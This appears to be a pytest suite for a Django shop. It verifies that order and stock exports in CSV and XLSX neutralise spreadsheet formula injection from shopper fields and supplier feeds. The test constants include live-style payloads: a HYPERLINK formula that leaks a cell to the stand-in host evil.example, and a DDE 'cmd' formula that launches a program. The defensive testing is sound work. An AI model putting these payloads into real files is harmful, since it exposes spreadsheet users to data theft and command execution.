"""Hostile shopper and feed text in the files a merchant opens in a spreadsheet (CSV injection).

An order is placed through the API checkout with a formula for an e-mail and a name, a product
arrives from a wholesaler feed with a formula for a SKU, and the exports are read back: no XLSX
cell is a formula, no CSV cell starts with ``= + - @``, a tab or a carriage return, while amounts
stay numbers.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal

import pytest
import time_machine
from django.utils import translation
from openpyxl import load_workbook
from rest_framework.test import APIClient

from catalog.models import Variant
from integrations import services as integration_services
from orders.models import Order, PaymentMethod, ShippingMethod
from reports import services
from tests.catalog.factories import VariantFactory, give_stock
from tests.integrations.conftest import make_config
from tests.orders.factories import PaymentMethodFactory, ShippingMethodFactory

pytestmark = pytest.mark.django_db

HOSTILE_EMAIL = "=cmd-injection@example.com"
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
HOSTILE_SKU = "=cmd|' /C calc'!A0"
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
NOW = datetime(2025, 3, 10, 11, 0, tzinfo=UTC)
DAY = {"date_from": "2025-03-10", "date_to": "2025-03-10"}


@pytest.fixture(autouse=True)
def _english_and_a_fixed_day():
    with translation.override("en"), time_machine.travel(NOW, tick=True):
        yield


@pytest.fixture
def hostile_order(store):
    """An order placed through the API checkout by a shopper whose e-mail and name are formulas."""
    variant = VariantFactory(store=store, price=Decimal("100.00"), sku="SUK-1")
    give_stock(variant, 10)
    shipping = ShippingMethodFactory(
        store=store, code="kurier", price=Decimal("15.00"), kind=ShippingMethod.Kind.COURIER
    )
    transfer = PaymentMethodFactory(store=store, provider=PaymentMethod.Provider.BANK_TRANSFER)
    client = APIClient()
    token = client.post("/api/v1/carts/").json()["token"]
    r = client.post(f"/api/v1/carts/{token}/lines/", {"variant_id": variant.pk, "quantity": 2}, format="json")
    assert r.status_code == 201, r.content
    r = client.post(
        f"/api/v1/carts/{token}/checkout/",
        {
            "email": HOSTILE_EMAIL,
            "marketing_consent": False,
            "shipping_method": shipping.pk,
            "payment_method": transfer.pk,
            "answers": {
                "first_name": HOSTILE_NAME,
                "last_name": "Kowalska",
                "phone": "600 100 200",
                "street": "ul. Długa 5/3",
                "postal_code": "00-950",
                "city": "Warszawa",
            },
        },
        format="json",
    )
    assert r.status_code == 201, r.content
    order = Order.objects.get(number=r.json()["order"]["number"])
    assert order.email == HOSTILE_EMAIL and order.total == Decimal("215.00")
    return order


@pytest.fixture
def hostile_sku(store, tmp_path):
    """A product imported from a wholesaler's CSV feed whose SKU and texts are formulas."""
    config = make_config(store, profile="generic-csv")
    path = tmp_path / "feed.csv"
    path.write_text(
        "sku;name;category;cost_net;price_gross;stock\n"
        f"{HOSTILE_SKU};-2+3 Sukienka;@SUM(1+1);40,00;99,00;7\n",
        encoding="utf-8",
    )
    run = integration_services.run_connector(
        config_id=config.pk, direction="full", trigger="command", files={"products": str(path)}
    )
    assert run.failed == 0, list(run.errors.values_list("message", flat=True))
    variant = Variant.objects.get(store=store, sku=HOSTILE_SKU)
    assert variant.product.name == "-2+3 Sukienka"
    return variant


def export(store, kind, fmt, params) -> bytes:
    result = services.export(store=store, kind=kind, fmt=fmt, params=params)
    assert result.job is None
    return result.file.read()


def xlsx_cells(content: bytes) -> list:
    ws = load_workbook(io.BytesIO(content)).active
    return [cell for row in ws.iter_rows() for cell in row]


def assert_no_formula(cells: list) -> None:
    formulas = [(c.coordinate, c.value) for c in cells if c.data_type == "f"]
    assert formulas == []
    live = [c.value for c in cells if isinstance(c.value, str) and c.value.startswith(DANGEROUS)]
    assert live == []


def csv_rows(content: bytes, delimiter: str = ";") -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def assert_no_live_csv_cell(rows: list[list[str]]) -> None:
    live = [cell for row in rows for cell in row if cell.startswith(DANGEROUS)]
    assert live == []


def test_orders_xlsx_writes_shopper_text_as_text(store, hostile_order):
    cells = xlsx_cells(export(store, "orders", "xlsx", DAY))
    assert_no_formula(cells)
    values = [c.value for c in cells]
    assert "'" + HOSTILE_EMAIL in values
    assert "'" + HOSTILE_NAME + " Kowalska" in values
    texts = [c for c in cells if isinstance(c.value, str) and c.value.startswith("'=")]
    assert texts and all(c.data_type == "s" for c in texts)
    # Amounts are still numbers a spreadsheet can add up.
    assert 215 in values and all(not isinstance(v, str) for v in values if v == 215)


@pytest.mark.parametrize("delimiter", [";", ","])
def test_orders_csv_neutralises_shopper_text(store, hostile_order, delimiter):
    rows = csv_rows(export(store, "orders", "csv", {**DAY, "delimiter": delimiter}), delimiter)
    assert_no_live_csv_cell(rows)
    cells = [cell for row in rows for cell in row]
    assert "'" + HOSTILE_EMAIL in cells
    assert "'" + HOSTILE_NAME + " Kowalska" in cells
    assert ("215,00" if delimiter == ";" else "215.00") in cells


def test_stock_exports_neutralise_a_feed_sku(store, hostile_sku):
    cells = xlsx_cells(export(store, "stock", "xlsx", {}))
    assert_no_formula(cells)
    values = [c.value for c in cells]
    assert "'" + HOSTILE_SKU in values and "'-2+3 Sukienka" in values and "'@SUM(1+1)" in values
    assert 7 in values  # on hand: a number
    rows = csv_rows(export(store, "stock", "csv", {"delimiter": ";"}))
    assert_no_live_csv_cell(rows)
    assert "'" + HOSTILE_SKU in rows[1]


def test_negative_numbers_stay_numbers():
    from reports.exports import Column, Report, Section, write_csv, write_xlsx

    report = Report(
        title="t",
        store_name="s",
        range_label="r",
        currency="PLN",
        sections=[
            Section(
                "S",
                [Column("name", "Name"), Column("amount", "Amount", "money"), Column("n", "N", "int")],
                [{"name": "-5 zł rabatu", "amount": Decimal("-12.50"), "n": -3}],
                1,
            )
        ],
    )
    fh = io.BytesIO()
    write_xlsx(report, fh)
    ws = load_workbook(fh).active
    assert ws["A2"].value == "'-5 zł rabatu" and ws["A2"].data_type == "s"
    assert ws["B2"].value == -12.5 and ws["B2"].data_type == "n"
    assert ws["C2"].value == -3 and ws["C2"].data_type == "n"
    fh = io.BytesIO()
    write_csv(report, fh)
    assert csv_rows(fh.getvalue())[1] == ["'-5 zł rabatu", "-12,50", "-3"]


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+48 600 100 200", "'+48 600 100 200"),
        ("-x", "'-x"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Anna", "Anna"),
        ("a=b", "a=b"),
        ("'=1+1", "'=1+1"),
        ("", ""),
    ],
)
def test_the_rule(text, safe):
    from shop.spreadsheets import spreadsheet_text

    assert spreadsheet_text(text) == safe
